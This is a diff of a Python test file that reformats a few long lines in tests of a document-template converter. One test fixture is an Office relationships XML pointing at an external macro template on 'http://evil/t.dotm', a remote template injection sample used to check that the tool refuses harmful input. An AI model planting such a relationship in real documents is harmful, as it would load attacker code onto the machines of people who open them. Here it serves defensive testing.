@@ -66,7 +66,12 @@ def test_an_unchanged_file_comes_back_as_the_template_it_was(town: Town) -> None
     matched, text = proof(read_again(content, rendered), rendered)
     assert {each.state for each in matched.matches} == {"right", "typed"}
     assert matched.dropped == () or all(rendered.numbers[n].call.startswith("value") for n in matched.dropped)
-    for call in ('press("cases.reported")', 'figure("cases.handled")', 'value("cases.open")', 'chart("cases.reported"'):
+    for call in (
+        'press("cases.reported")',
+        'figure("cases.handled")',
+        'value("cases.open")',
+        'chart("cases.reported"',
+    ):
         assert call in text
     assert text.startswith("# 七月的事")
     assert "\n> " in text
@@ -130,7 +135,10 @@ def with_part(content: bytes, name: str, part: bytes) -> bytes:
     return written.getvalue()
 
 
-RELATION = b'<Relationships xmlns="x"><Relationship Id="a" Type="http://x/%s" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
+RELATION = (
+    b'<Relationships xmlns="x"><Relationship Id="a" Type="http://x/%s" '
+    b'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
+)
 
 
 def test_what_could_harm_is_refused_with_a_sentence(town: Town) -> None:
